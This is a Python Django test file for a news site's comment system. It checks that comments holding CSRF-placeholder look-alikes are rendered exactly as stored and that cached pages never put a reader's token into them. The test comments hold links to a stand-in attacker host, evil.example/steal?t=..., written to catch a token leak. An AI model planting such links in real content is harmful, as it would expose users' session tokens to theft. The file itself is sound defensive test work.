"""A comment cannot make the page put a viewer's CSRF token into the comment's text.

Thread pages are cached once for every reader and each response carries the viewer's own
CSRF token. Whatever the cache uses to mark where the token goes, text a reader wrote must
come out exactly as it was stored: a link or code span naming the old placeholder (or
anything that looks like a marker) must not carry the token to another site.
"""

import re
from collections.abc import Callable

from django.conf import settings
from django.test import Client

from broadsheet.accounts.models import User
from broadsheet.comments import services
from broadsheet.comments.models import Comment
from broadsheet.stories.models import Story

OLD_PLACEHOLDER = "__csrf_token_for_this_reader__"
MARKER_LOOKALIKES = [
    OLD_PLACEHOLDER,
    "__csrf_token__",
    "{{ csrf_token }}",
    "{% csrf_token %}",
    "CSRF_MARKER",
    "NOTPROVIDED",
    "csrfmiddlewaretoken",
]


def _bodies(html: str) -> dict[int, str]:
    """Each comment's body as the page shows it, by comment id."""
    found = re.findall(
        r'<article class="comment[^"]*" id="comment-(\d+)">.*?'
        r'<div class="comment__body">(.*?)</div>\s*<footer',
        html,
        flags=re.S,
    )
    return {int(pk): body for pk, body in found}


def _viewer_token(client: Client, html: str) -> str:
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)
    assert token, "the page has no form with a CSRF token"
    return token.group(1)


def test_a_placeholder_in_a_link_or_code_span_is_shown_as_written(
    client_for: Callable[[str], Client], story: Story, users: dict[str, User]
) -> None:
    posted = []
    for lookalike in MARKER_LOOKALIKES:
        link = f"[read this](https://evil.example/steal?t={lookalike})"
        text = f"{link} and `{lookalike}` {lookalike}"
        posted.append(services.post_comment(users["member"], story, text))
    # The screening may hold some look-alikes; the published ones are on the page.
    posted = [c for c in posted if c.status == Comment.Status.PUBLISHED]
    assert OLD_PLACEHOLDER in posted[0].body
    url = story.get_absolute_url() + "?sort=newest"
    # One reader fills the cache; others are served from it with their own tokens.
    client_for("editor").get(url)
    for who in ("free", "moderator", "editor"):
        client = client_for(who)
        html = client.get(url).content.decode()
        token = _viewer_token(client, html)
        cookie = client.cookies[settings.CSRF_COOKIE_NAME].value
        bodies = _bodies(html)
        for comment in posted:
            stored = Comment.objects.get(pk=comment.pk).body_html
            assert bodies[comment.pk] == stored, f"comment {comment.pk} changed for {who}"
            assert token not in bodies[comment.pk]
            assert cookie not in bodies[comment.pk]
        assert f"https://evil.example/steal?t={OLD_PLACEHOLDER}" in html
        assert not re.search(r"evil\.example/steal\?t=[A-Za-z0-9]{32,}", html)


def test_the_htmx_fragments_show_comment_text_as_written(
    client_for: Callable[[str], Client], story: Story, users: dict[str, User]
) -> None:
    comment = services.post_comment(
        users["member"], story, f"`{OLD_PLACEHOLDER}` [x](https://evil.example/?{OLD_PLACEHOLDER})"
    )
    client = client_for("free")
    client.get(story.get_absolute_url())
    fragment = client.get(
        f"/comments/story/{story.pk}/?sort=newest", headers={"HX-Request": "true"}
    ).content.decode()
    token = _viewer_token(client, fragment)
    body = _bodies(fragment)[comment.pk]
    assert body == Comment.objects.get(pk=comment.pk).body_html
    assert token not in body
